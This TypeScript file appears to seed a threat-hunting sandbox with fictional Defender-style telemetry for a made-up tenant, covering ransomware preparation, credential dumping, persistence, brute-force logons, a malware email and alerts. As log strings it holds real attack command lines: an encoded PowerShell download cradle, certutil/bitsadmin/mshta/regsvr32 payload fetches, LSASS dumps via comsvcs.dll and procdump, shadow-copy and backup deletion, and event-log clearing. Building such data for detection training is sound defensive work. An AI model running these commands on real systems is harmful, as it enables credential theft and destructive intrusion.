// Attack activity for the techniques hunters look for most, on the sandbox's one fictional tenant (the same
// devices, accounts, SIDs, hashes, IPs and message ids as every other table, so hunts join across tables):
// - ransomware preparation on the SQL server: processes and services stopped in bulk, event logs cleared, shadow
//   copies and backups deleted, recovery turned off, free space wiped, files renamed in bulk, an SMB sweep first;
// - living-off-the-land binaries (certutil, regsvr32, mshta, rundll32, bitsadmin) fetching payloads;
// - credential dumping (LSASS opened and dumped through comsvcs.dll and procdump);
// - persistence (a scheduled task, a service, a Run key) and defence evasion (Defender turned off by policy);
// - an encoded PowerShell download cradle from the malware mail (before the shipped suspicious-powershell
//   workflow's first window, which is the story beacon's), then discovery commands in the last hour;
// - failed logons (brute force on one account, on the device and against the domain controller);
// - a malware attachment mailed to a user, clicked, saved and run, and a purge (ZAP) that failed;
// - the alerts that detections raise for them, with evidence pointing at the same entities.
// These rows come after the other seed rows with their own random stream, so the story tables keep their values.
// Times are relative to now: most in the last day, some in the last hour, where hunts usually look.
import { analysts, files, maliciousIps } from '../seed/entities';
import { datetimeFromParts } from './datetime';
import {
  fileRow,
  HOUR_MS,
  identityRow,
  IMAGES,
  logonRow,
  networkRow,
  processRow,
  profileOf,
  requireUser,
  sidOf,
  type DeviceProfile,
  type GenContext,
  type Image,
} from './seedBenign';
import { activityRow } from './seedGeneric';
import type { Row } from './values';

const fin = profileOf('ws-fin-042');
const hr = profileOf('ws-hr-007');
const sql = profileOf('srv-sql-01');
const amy = requireUser('amy.wong');
const lena = requireUser('lena.fischer');
const svc = requireUser('svc-backup');
const [c2, stager, rdp] = maliciousIps;
const [dropper] = files;

const MINUTE_MS = 60_000;

/** Ransomware preparation starts 3 hours ago, on a ten-minute boundary (so bursts share their bins). */
function burstStart(nowMs: number): number {
  return Math.floor((nowMs - 3 * HOUR_MS) / (10 * MINUTE_MS)) * 10 * MINUTE_MS + 15_000;
}

const time = (ms: number, g: GenContext): string => datetimeFromParts(Math.floor(ms), g.rng.int(0, 9999)) as string;
const ago = (g: GenContext, hours: number): string => time(g.nowMs - hours * HOUR_MS + g.rng.int(0, 59_999), g);

function image(fileName: string, folder = 'C:\\Windows\\System32', description = ''): Image {
  return { fileName, folder, company: 'Microsoft Corporation', description, size: 80_000 };
}

const LOLBINS = {
  taskkill: image('taskkill.exe'),
  net: image('net.exe'),
  cipher: image('cipher.exe'),
  wevtutil: image('wevtutil.exe'),
  sc: image('sc.exe'),
  vssadmin: image('vssadmin.exe'),
  wmic: image('WMIC.exe', 'C:\\Windows\\System32\\wbem'),
  bcdedit: image('bcdedit.exe'),
  wbadmin: image('wbadmin.exe'),
  fsutil: image('fsutil.exe'),
  certutil: image('certutil.exe'),
  regsvr32: image('regsvr32.exe'),
  mshta: image('mshta.exe'),
  rundll32: image('rundll32.exe'),
  bitsadmin: image('bitsadmin.exe'),
  schtasks: image('schtasks.exe'),
  reg: image('reg.exe'),
  whoami: image('whoami.exe'),
  nltest: image('nltest.exe'),
  ipconfig: image('ipconfig.exe'),
  procdump: {
    ...image('procdump64.exe', 'C:\\Users\\Public', 'Sysinternals process dump utility'),
    company: 'Sysinternals',
  },
} as const;

const STOPPED_PROCESSES = [
  'sqlservr.exe',
  'sqlwriter.exe',
  'sqlagent.exe',
  'oracle.exe',
  'ocssd.exe',
  'dbsnmp.exe',
  'synctime.exe',
  'agntsvc.exe',
  'mydesktopservice.exe',
  'ocautoupds.exe',
  'encsvc.exe',
  'msaccess.exe',
];
const STOPPED_SERVICES = [
  'MSSQLSERVER',
  'SQLSERVERAGENT',
  'SQLWriter',
  'VSS',
  'wbengine',
  'BackupExecJobEngine',
  'VeeamTransportSvc',
  'MSExchangeIS',
  'SstpSvc',
  'MpsSvc',
  'WinDefend',
  'SDRSVC',
];
const CLEARED_LOGS = [
  'Application',
  'Security',
  'System',
  'Setup',
  'Windows PowerShell',
  'Microsoft-Windows-PowerShell/Operational',
  'Microsoft-Windows-TaskScheduler/Operational',
  'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
  'Microsoft-Windows-Windows Defender/Operational',
  'Microsoft-Windows-Sysmon/Operational',
  'Microsoft-Windows-WMI-Activity/Operational',
];

function encoded(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

const CRADLE = `powershell.exe -NoP -NonI -W Hidden -Enc ${encoded(`IEX (New-Object Net.WebClient).DownloadString('http://${c2}/a.ps1')`)}`;
const TASK_COMMAND = `schtasks.exe /Create /F /SC ONLOGON /RU SYSTEM /TN "OneDrive Standalone Update" /TR "C:\\Users\\Public\\update.exe"`;
const RUN_KEY = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const DUMP_COMMAND = 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Windows\\Temp\\lsass.dmp full';

/** Malware mailed to a user 80 minutes ago by another campaign than the story's phish: its message id joins
 * EmailEvents, attachments, clicks and purges. */
const MALWARE_SENDER = 'remittance@northwind-payments.example';
export const MALWARE_MESSAGE_ID = '7c1d9e42-3b5a-4f08-9d6e-2a4b8c0f1e37';
const MALWARE_SUBJECT = 'Remittance advice - payment confirmation';
const MALWARE_URL = `http://${stager}/remittance/view`;

function ransomwareProcesses(g: GenContext): Row[] {
  const start = burstStart(g.nowMs);
  const at = (seconds: number) => time(start + seconds * 1000 + g.rng.int(0, 900), g);
  const cmd = (seconds: number, img: Image, line: string, parent: Image = IMAGES.cmd) =>
    processRow(g, sql, at(seconds), img, parent, line, {
      values: { ProcessIntegrityLevel: 'High', ProcessTokenElevation: 'TokenElevationTypeFull' },
    });
  return [
    ...STOPPED_PROCESSES.map((p, i) => cmd(i * 4, LOLBINS.taskkill, `taskkill.exe /F /IM ${p}`)),
    ...STOPPED_SERVICES.map((s, i) => cmd(2 + i * 4, LOLBINS.net, `net.exe stop "${s}" /y`)),
    ...CLEARED_LOGS.map((l, i) => cmd(150 + i * 5, LOLBINS.wevtutil, `wevtutil.exe cl "${l}"`)),
    ...STOPPED_SERVICES.slice(0, 11).map((s, i) =>
      cmd(152 + i * 5, LOLBINS.sc, `sc.exe config "${s}" start= disabled`),
    ),
    cmd(250, LOLBINS.vssadmin, 'vssadmin.exe delete shadows /all /quiet'),
    cmd(255, LOLBINS.wmic, 'WMIC.exe shadowcopy delete /nointeractive'),
    cmd(260, LOLBINS.bcdedit, 'bcdedit.exe /set {default} recoveryenabled no'),
    cmd(262, LOLBINS.bcdedit, 'bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures'),
    cmd(265, LOLBINS.wbadmin, 'wbadmin.exe delete catalog -quiet'),
    cmd(268, LOLBINS.wbadmin, 'wbadmin.exe delete systemstatebackup -keepVersions:0'),
    cmd(270, LOLBINS.fsutil, 'fsutil.exe usn deletejournal /D C:'),
    cmd(481, LOLBINS.cipher, 'cipher.exe /w:C:\\'),
    cmd(486, LOLBINS.cipher, 'cipher.exe /w:D:\\'),
  ];
}

function techniqueProcesses(g: GenContext): Row[] {
  const user = (p: DeviceProfile) => ({ values: { AccountSid: sidOf(p) } });
  return [
    ...ransomwareProcesses(g),
    // Living off the land on the HR workstation.
    processRow(
      g,
      hr,
      ago(g, 5),
      LOLBINS.certutil,
      IMAGES.cmd,
      `certutil.exe -urlcache -split -f http://${stager}/payload.exe C:\\Users\\Public\\payload.exe`,
      user(hr),
    ),
    processRow(
      g,
      hr,
      ago(g, 4.95),
      LOLBINS.bitsadmin,
      IMAGES.cmd,
      `bitsadmin.exe /transfer update /download /priority high http://${stager}/update.dll C:\\Users\\Public\\update.dll`,
      user(hr),
    ),
    processRow(
      g,
      hr,
      ago(g, 4.9),
      LOLBINS.regsvr32,
      IMAGES.cmd,
      `regsvr32.exe /s /n /u /i:http://${stager}/file.sct scrobj.dll`,
      user(hr),
    ),
    processRow(g, hr, ago(g, 4.85), LOLBINS.mshta, IMAGES.explorer, `mshta.exe http://${stager}/run.hta`, user(hr)),
    processRow(
      g,
      hr,
      ago(g, 4.8),
      LOLBINS.rundll32,
      IMAGES.cmd,
      'rundll32.exe C:\\Users\\Public\\update.dll,DllRegisterServer',
      user(hr),
    ),
    // Credential dumping on the finance workstation.
    processRow(g, fin, ago(g, 2.1), LOLBINS.rundll32, IMAGES.powershell, DUMP_COMMAND, {
      values: { AccountSid: sidOf(fin), ProcessIntegrityLevel: 'System' },
    }),
    processRow(
      g,
      fin,
      ago(g, 2.05),
      LOLBINS.procdump,
      IMAGES.cmd,
      'procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp',
      {
        values: { AccountSid: sidOf(fin), ProcessIntegrityLevel: 'High' },
      },
    ),
    // Persistence.
    processRow(g, fin, ago(g, 1.6), LOLBINS.schtasks, IMAGES.powershell, TASK_COMMAND, user(fin)),
    processRow(
      g,
      fin,
      ago(g, 1.55),
      LOLBINS.sc,
      IMAGES.powershell,
      'sc.exe create UpdaterSvc binPath= "C:\\Users\\Public\\svc.exe" start= auto',
      user(fin),
    ),
    processRow(
      g,
      fin,
      ago(g, 1.5),
      LOLBINS.reg,
      IMAGES.powershell,
      `reg.exe add ${RUN_KEY.replace('HKEY_CURRENT_USER', 'HKCU')} /v Updater /t REG_SZ /d C:\\Users\\Public\\update.exe /f`,
      user(fin),
    ),
    // The malware mail's encoded download cradle, then discovery in the last hour.
    processRow(g, hr, ago(g, 1.25), IMAGES.powershell, IMAGES.outlook, CRADLE, user(hr)),
    processRow(g, hr, ago(g, 0.6), LOLBINS.whoami, IMAGES.cmd, 'whoami.exe /all', user(hr)),
    processRow(g, hr, ago(g, 0.58), LOLBINS.net, IMAGES.cmd, 'net.exe user /domain', user(hr)),
    processRow(g, hr, ago(g, 0.56), LOLBINS.net, IMAGES.cmd, 'net.exe group "Domain Admins" /domain', user(hr)),
    processRow(g, hr, ago(g, 0.54), LOLBINS.nltest, IMAGES.cmd, 'nltest.exe /dclist:contoso', user(hr)),
    processRow(g, hr, ago(g, 0.52), LOLBINS.ipconfig, IMAGES.cmd, 'ipconfig.exe /all', user(hr)),
  ];
}

function techniqueNetwork(g: GenContext): Row[] {
  const start = burstStart(g.nowMs) - 20 * MINUTE_MS;
  const scanner = { InitiatingProcessId: 5128, InitiatingProcessCreationTime: time(start - MINUTE_MS, g) };
  const remote = (ip: string, port: number, url = '') => ({
    ip,
    port,
    url,
    type: ip.startsWith('10.') ? 'Private' : 'Public',
  });
  return [
    // An SMB sweep of the server subnet from one process.
    ...Array.from({ length: 14 }, (_v, i) =>
      networkRow(g, sql, time(start + i * 3000, g), IMAGES.powershell, CRADLE, remote(`10.10.0.${20 + i}`, 445), {
        ...scanner,
        ActionType: i % 3 === 0 ? 'ConnectionSuccess' : 'ConnectionAttempt',
      }),
    ),
    networkRow(g, hr, ago(g, 5), LOLBINS.certutil, 'certutil.exe', remote(stager, 80, `http://${stager}/payload.exe`)),
    networkRow(g, hr, ago(g, 4.85), LOLBINS.mshta, 'mshta.exe', remote(stager, 80, `http://${stager}/run.hta`)),
    networkRow(g, hr, ago(g, 4.7), LOLBINS.rundll32, 'rundll32.exe', remote(stager, 4444)),
    networkRow(g, hr, ago(g, 1.24), IMAGES.powershell, CRADLE, remote(c2, 80, `http://${c2}/a.ps1`)),
    networkRow(g, hr, ago(g, 0.5), IMAGES.powershell, CRADLE, remote(c2, 8443)),
    networkRow(
      g,
      fin,
      ago(g, 1.4),
      image('svc.exe', 'C:\\Users\\Public'),
      'C:\\Users\\Public\\svc.exe',
      remote(rdp, 3389),
    ),
    ...everydayNetwork(g),
  ];
}

/** Services listening, inbound connections accepted and inspected traffic: the other documented action types. */
function everydayNetwork(g: GenContext): Row[] {
  const listening: [DeviceProfile, number, Image][] = [
    [sql, 1433, image('sqlservr.exe', 'C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn')],
    [sql, 3389, IMAGES.svchost],
    [sql, 5985, image('System', '')],
    [sql, 445, image('System', '')],
    [fin, 135, IMAGES.svchost],
    [hr, 135, IMAGES.svchost],
    [hr, 3389, IMAGES.svchost],
  ];
  const none = { ip: '', port: 0, url: '', type: '' };
  const remote = (ip: string, port: number, url = '') => ({
    ip,
    port,
    url,
    type: ip.startsWith('10.') ? 'Private' : 'Public',
  });
  return [
    ...listening.map(([p, port, img]) =>
      networkRow(g, p, ago(g, 20 + port / 1000), img, img.fileName, none, {
        ActionType: 'ListeningConnectionCreated',
        Protocol: 'Tcp',
        LocalIP: p.localIp,
        LocalPort: port,
        RemotePort: null,
      }),
    ),
    networkRow(g, sql, ago(g, 3.5), IMAGES.svchost, 'svchost.exe -k termsvcs', remote(hr.localIp, 51234), {
      ActionType: 'InboundConnectionAccepted',
      LocalIP: sql.localIp,
      LocalPort: 3389,
    }),
    networkRow(g, sql, ago(g, 3.4), image('System', ''), 'System', remote(hr.localIp, 51240), {
      ActionType: 'InboundConnectionAccepted',
      LocalIP: sql.localIp,
      LocalPort: 445,
    }),
    networkRow(g, hr, ago(g, 1.24), IMAGES.powershell, CRADLE, remote(c2, 80, `http://${c2}/a.ps1`), {
      ActionType: 'NetworkSignatureInspected',
      // A string column in this table (the schema's type).
      AdditionalFields: JSON.stringify({
        SignatureName: 'HTTP_Client',
        SignatureMatchedContent: 'GET /a.ps1 HTTP/1.1',
        SamplePacketContent: `GET /a.ps1 HTTP/1.1\r\nHost: ${c2}\r\nUser-Agent: Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1`,
      }),
    }),
  ];
}

function techniqueFiles(g: GenContext): Row[] {
  const start = burstStart(g.nowMs) + 10 * MINUTE_MS;
  const drop = (t: string, p: DeviceProfile, name: string, values: Row = {}) =>
    fileRow(g, p, t, { FileName: name, FolderPath: `C:\\Users\\Public\\${name}`, ...values });
  return [
    drop(ago(g, 1.29), hr, dropper.fileName, {
      FolderPath: `C:\\Users\\${lena.accountName}\\Downloads\\${dropper.fileName}`,
      SHA1: dropper.sha1,
      SHA256: dropper.sha256,
      FileOriginUrl: MALWARE_URL,
      InitiatingProcessFileName: IMAGES.outlook.fileName,
    }),
    drop(ago(g, 5), hr, 'payload.exe', {
      FileOriginUrl: `http://${stager}/payload.exe`,
      InitiatingProcessFileName: 'certutil.exe',
    }),
    drop(ago(g, 2.04), fin, 'ls.dmp', {
      FolderPath: 'C:\\Windows\\Temp\\ls.dmp',
      InitiatingProcessFileName: 'procdump64.exe',
    }),
    // Mass encryption: files renamed with the ransomware's extension, and a ransom note per folder.
    ...Array.from({ length: 24 }, (_v, i) =>
      fileRow(g, sql, time(start + i * 2500, g), {
        ActionType: 'FileRenamed',
        FileName: `backup_${String(i).padStart(2, '0')}.bak.locked`,
        FolderPath: `D:\\Backups\\backup_${String(i).padStart(2, '0')}.bak.locked`,
        PreviousFileName: `backup_${String(i).padStart(2, '0')}.bak`,
        PreviousFolderPath: 'D:\\Backups',
        InitiatingProcessFileName: 'svc.exe',
      }),
    ),
    ...['C:\\Users\\Public', 'D:\\Backups', 'D:\\Data'].map((folder, i) =>
      fileRow(g, sql, time(start + 70_000 + i * 1000, g), {
        FileName: 'README_RESTORE_FILES.txt',
        FolderPath: `${folder}\\README_RESTORE_FILES.txt`,
        InitiatingProcessFileName: 'svc.exe',
      }),
    ),
  ];
}

function techniqueLogons(g: GenContext): Row[] {
  const rows: Row[] = [];
  // Password spraying against one account on the HR workstation, then a success.
  for (let i = 0; i < 8; i++)
    rows.push(
      logonRow(g, hr, ago(g, 8 - i * 0.02), {
        ActionType: 'LogonFailed',
        LogonType: 'Network',
        AccountName: lena.accountName,
        AccountDomain: 'contoso',
        AccountSid: sidOf(hr),
        FailureReason: 'InvalidUserNameOrPassword',
        RemoteIP: '10.10.0.10',
        RemoteIPType: 'Private',
        Protocol: 'NTLM',
      }),
    );
  rows.push(
    logonRow(g, hr, ago(g, 7.8), {
      LogonType: 'Network',
      AccountName: lena.accountName,
      AccountSid: sidOf(hr),
      RemoteIP: '10.10.0.10',
    }),
  );
  // Interactive logons after the malware mail, within half an hour of it.
  rows.push(logonRow(g, hr, ago(g, 1.21), { AccountName: lena.accountName, AccountSid: sidOf(hr) }));
  rows.push(logonRow(g, fin, ago(g, 0.4), { AccountName: amy.accountName, AccountSid: sidOf(fin) }));
  return rows;
}

function techniqueIdentity(g: GenContext): Row[] {
  const rows: Row[] = [];
  for (let i = 0; i < 6; i++)
    rows.push(
      identityRow(g, lena, ago(g, 8 - i * 0.02), {
        ActionType: 'LogonFailed',
        Application: 'Active Directory',
        LogonType: 'Credentials validation',
        Protocol: 'Kerberos',
        FailureReason: 'WrongPassword',
        DeviceName: hr.device.deviceName,
        IPAddress: hr.localIp,
      }),
    );
  rows.push(
    identityRow(g, lena, ago(g, 1.2), {
      Application: 'Active Directory',
      Protocol: 'Kerberos',
      LogonType: 'Interactive',
      DeviceName: hr.device.deviceName,
      IPAddress: hr.localIp,
    }),
  );
  rows.push(
    identityRow(g, amy, ago(g, 0.35), {
      Application: 'Active Directory',
      Protocol: 'Kerberos',
      LogonType: 'Interactive',
      DeviceName: fin.device.deviceName,
      IPAddress: fin.localIp,
    }),
  );
  return rows;
}

/** Rows for tables built from generic activity (device events, registry, mail details, alerts). */
function who(p: DeviceProfile, user: typeof amy, t: string, attack = true) {
  return { p, user, t, attack };
}

function techniqueDeviceEvents(g: GenContext): Row[] {
  const start = burstStart(g.nowMs);
  const rows: Row[] = [];
  // Defender detected the ransomware's tools on the server, one after the other.
  for (let i = 0; i < 7; i++)
    rows.push(
      activityRow('DeviceEvents', g, who(sql, svc, time(start + 300_000 + i * 20_000, g)), {
        ActionType: 'AntivirusDetection',
        FileName: i % 2 ? 'svc.exe' : `locker_${i}.dll`,
        FolderPath: 'C:\\Users\\Public',
        AdditionalFields: {
          ThreatName: 'Ransom:Win32/LockBit.PA!MTB',
          WasRemediated: i % 2 === 0,
          Action: 'quarantine',
        },
      }),
    );
  rows.push(
    activityRow('DeviceEvents', g, who(fin, amy, ago(g, 2.1)), {
      ActionType: 'OpenProcessApiCall',
      FileName: 'lsass.exe',
      FolderPath: 'C:\\Windows\\System32\\lsass.exe',
      InitiatingProcessFileName: 'rundll32.exe',
      InitiatingProcessCommandLine: DUMP_COMMAND,
      AdditionalFields: { DesiredAccess: 2097151 },
    }),
    activityRow('DeviceEvents', g, who(fin, amy, ago(g, 1.6)), {
      ActionType: 'ScheduledTaskCreated',
      AdditionalFields: { TaskName: '\\OneDrive Standalone Update', TaskContent: 'C:\\Users\\Public\\update.exe' },
      InitiatingProcessFileName: 'schtasks.exe',
      InitiatingProcessCommandLine: TASK_COMMAND,
    }),
    activityRow('DeviceEvents', g, who(fin, amy, ago(g, 1.55)), {
      ActionType: 'ServiceInstalled',
      AdditionalFields: { ServiceName: 'UpdaterSvc', ServiceAccount: 'LocalSystem', ServiceStartType: 2 },
      FileName: 'svc.exe',
      FolderPath: 'C:\\Users\\Public\\svc.exe',
    }),
    activityRow('DeviceEvents', g, who(hr, lena, ago(g, 1.24)), {
      ActionType: 'PowerShellCommand',
      AdditionalFields: { Command: 'Invoke-Expression' },
      InitiatingProcessFileName: 'powershell.exe',
      InitiatingProcessCommandLine: CRADLE,
    }),
  );
  return rows;
}

function techniqueRegistry(g: GenContext): Row[] {
  return [
    activityRow('DeviceRegistryEvents', g, who(fin, amy, ago(g, 1.5)), {
      ActionType: 'RegistryValueSet',
      RegistryKey: RUN_KEY,
      RegistryValueName: 'Updater',
      RegistryValueData: 'C:\\Users\\Public\\update.exe',
      RegistryValueType: 'String',
      InitiatingProcessFileName: 'reg.exe',
    }),
    activityRow('DeviceRegistryEvents', g, who(sql, svc, time(burstStart(g.nowMs) - 60_000, g)), {
      ActionType: 'RegistryValueSet',
      RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender',
      RegistryValueName: 'DisableAntiSpyware',
      RegistryValueData: '1',
      RegistryValueType: 'Dword',
      InitiatingProcessFileName: 'reg.exe',
    }),
  ];
}

function techniqueEmail(g: GenContext, table: string): Row[] {
  const sent = ago(g, 1.3);
  const mail = {
    NetworkMessageId: MALWARE_MESSAGE_ID,
    SenderFromAddress: MALWARE_SENDER,
    SenderMailFromAddress: MALWARE_SENDER,
    SenderFromDomain: MALWARE_SENDER.split('@')[1],
    RecipientEmailAddress: lena.upn,
    RecipientObjectId: lena.objectId,
    Subject: MALWARE_SUBJECT,
    ThreatTypes: 'Malware, Phish',
  };
  switch (table) {
    case 'EmailEvents':
      return [
        activityRow(table, g, who(hr, lena, sent), {
          ...mail,
          AttachmentCount: 1,
          UrlCount: 1,
          DeliveryAction: 'Delivered',
          DeliveryLocation: 'Inbox/folder',
          EmailDirection: 'Inbound',
          DetectionMethods: '{"Malware":["File detonation"]}',
        }),
        // Ordinary mail keeps flowing: some in the last hour.
        ...[0.9, 0.5, 0.2].map((h) =>
          activityRow(table, g, who(fin, amy, ago(g, h), false), {
            ThreatTypes: '',
            Subject: 'Weekly status',
            SenderFromAddress: 'it-support@contoso.com',
            DeliveryAction: 'Delivered',
            EmailDirection: 'Intra-org',
          }),
        ),
      ];
    case 'EmailAttachmentInfo':
      return [
        activityRow(table, g, who(hr, lena, sent), {
          ...mail,
          FileName: dropper.fileName,
          FileType: 'exe',
          SHA256: dropper.sha256,
        }),
      ];
    case 'EmailUrlInfo':
      return [
        activityRow(table, g, who(hr, lena, sent), {
          NetworkMessageId: MALWARE_MESSAGE_ID,
          Url: MALWARE_URL,
          UrlDomain: stager,
          UrlLocation: 'Body',
        }),
      ];
    case 'UrlClickEvents':
      return [
        activityRow(table, g, who(hr, lena, ago(g, 1.29)), {
          NetworkMessageId: MALWARE_MESSAGE_ID,
          Url: MALWARE_URL,
          ActionType: 'ClickAllowed',
          AccountUpn: lena.upn,
          IsClickedThrough: true,
          Workload: 'Email',
        }),
      ];
    case 'EmailPostDeliveryEvents':
      return [
        activityRow(table, g, who(hr, lena, ago(g, 0.3)), {
          ...mail,
          ActionType: 'Malware ZAP',
          Action: 'Moved to quarantine',
          ActionTrigger: 'SpecialAction',
          ActionResult: 'Error',
          DeliveryLocation: 'Inbox/folder',
        }),
      ];
    default:
      return [];
  }
}

const ALERTS = [
  {
    id: 'da638100000000000001',
    title: 'Suspicious access to LSASS service',
    category: 'CredentialAccess',
    techniques: '["OS Credential Dumping (T1003)","LSASS Memory (T1003.001)"]',
    p: fin,
    user: amy,
    hours: 2.05,
    process: { FileName: 'rundll32.exe', ProcessCommandLine: DUMP_COMMAND },
  },
  {
    id: 'da638100000000000002',
    title: 'Ransomware behavior detected in the file system',
    category: 'Ransomware',
    techniques: '["Inhibit System Recovery (T1490)","Data Encrypted for Impact (T1486)","Service Stop (T1489)"]',
    p: sql,
    user: svc,
    hours: 2.8,
    process: { FileName: 'vssadmin.exe', ProcessCommandLine: 'vssadmin.exe delete shadows /all /quiet' },
  },
  {
    id: 'da638100000000000003',
    title: 'Suspicious PowerShell command line',
    category: 'Execution',
    techniques: '["PowerShell (T1059.001)","Ingress Tool Transfer (T1105)"]',
    p: hr,
    user: lena,
    hours: 1.23,
    process: { FileName: 'powershell.exe', ProcessCommandLine: CRADLE },
  },
] as const;

function techniqueAlerts(g: GenContext, table: string): Row[] {
  return ALERTS.flatMap((a) => {
    const t = ago(g, a.hours);
    const base = {
      AlertId: a.id,
      Title: a.title,
      Category: a.category,
      AttackTechniques: a.techniques,
      Severity: 'High',
      ServiceSource: 'Microsoft Defender for Endpoint',
      DetectionSource: 'EDR',
    };
    if (table === 'AlertInfo') return [activityRow(table, g, who(a.p, a.user, t), base)];
    if (table !== 'AlertEvidence') return [];
    const account = {
      Sid: sidOf(a.p),
      Name: a.user.accountName,
      NTDomain: 'CONTOSO',
      UPNSuffix: 'contoso.com',
      IsDomainJoined: true,
      AadUserId: a.user.objectId,
    };
    return [
      activityRow(table, g, who(a.p, a.user, t), {
        ...base,
        EntityType: 'Machine',
        EvidenceRole: 'Impacted',
        FileName: '',
        ProcessCommandLine: '',
        AdditionalFields: { HostName: a.p.device.deviceName.split('.')[0], OSFamily: 'Windows' },
      }),
      activityRow(table, g, who(a.p, a.user, t), {
        ...base,
        EntityType: 'User',
        EvidenceRole: 'Impacted',
        AccountSid: sidOf(a.p),
        AccountName: a.user.accountName,
        AccountUpn: a.user.upn,
        AccountObjectId: a.user.objectId,
        FileName: '',
        ProcessCommandLine: '',
        AdditionalFields: { Account: account },
      }),
      activityRow(table, g, who(a.p, a.user, t), {
        ...base,
        EntityType: 'Process',
        EvidenceRole: 'Related',
        ...a.process,
        AdditionalFields: { Account: account },
      }),
    ];
  });
}

/** A device found on the network that is not onboarded yet (device discovery), reported twice a day. */
const UNMANAGED = {
  deviceId: '5b2e8f1c7d3a4e6f9a0b1c2d3e4f5a6b',
  deviceName: 'ws-lab-019.contoso.local',
  ip: '10.10.3.19',
};

function techniqueDeviceInfo(g: GenContext): Row[] {
  return [30, 18, 6].map((h) =>
    activityRow('DeviceInfo', g, who(hr, lena, ago(g, h), false), {
      DeviceId: UNMANAGED.deviceId,
      DeviceName: UNMANAGED.deviceName,
      OnboardingStatus: 'Can be onboarded',
      OSPlatform: 'Windows10',
      DeviceCategory: 'Endpoint',
      DeviceType: 'Workstation',
      PublicIP: '',
      LoggedOnUsers: [],
      ClientVersion: '',
      SensorHealthState: '',
    }),
  );
}

/** The SOC's own response actions, audited in CloudAppEvents by Microsoft Defender XDR. */
function techniqueCloud(g: GenContext): Row[] {
  const action = (hours: number, actionType: string, raw: Record<string, unknown>) =>
    activityRow('CloudAppEvents', g, who(sql, svc, ago(g, hours), false), {
      ActionType: actionType,
      Application: 'Microsoft 365 Defender',
      AccountDisplayName: 'SecOps Analyst',
      AccountId: analysts[0],
      RawEventData: { ...raw, ActionComment: 'Contained by the SOC', ActionScope: 'Full' },
    });
  return [
    action(2.6, 'IsolateDevice', { DeviceName: sql.device.deviceName }),
    action(2.55, 'RunAntiVirusScan', { DeviceName: sql.device.deviceName, ScanType: 'Full' }),
    action(2.5, 'CollectInvestigationPackage', { DeviceName: sql.device.deviceName }),
    action(1.9, 'LiveResponseGetFile', { DeviceName: fin.device.deviceName, FileName: 'C:\\Windows\\Temp\\ls.dmp' }),
    action(1.2, 'ReleaseFromIsolation', { DeviceName: sql.device.deviceName }),
  ];
}

const BY_TABLE: Record<string, (g: GenContext, table: string) => Row[]> = {
  CloudAppEvents: techniqueCloud,
  DeviceProcessEvents: techniqueProcesses,
  DeviceNetworkEvents: techniqueNetwork,
  DeviceFileEvents: techniqueFiles,
  DeviceLogonEvents: techniqueLogons,
  IdentityLogonEvents: techniqueIdentity,
  DeviceEvents: techniqueDeviceEvents,
  DeviceRegistryEvents: techniqueRegistry,
  DeviceInfo: techniqueDeviceInfo,
  EmailEvents: techniqueEmail,
  EmailAttachmentInfo: techniqueEmail,
  EmailUrlInfo: techniqueEmail,
  UrlClickEvents: techniqueEmail,
  EmailPostDeliveryEvents: techniqueEmail,
  AlertInfo: techniqueAlerts,
  AlertEvidence: techniqueAlerts,
};

/** The technique rows of one table (none for tables no technique touches). */
export function techniqueRows(table: string, g: GenContext): Row[] {
  return BY_TABLE[table]?.(g, table) ?? [];
}
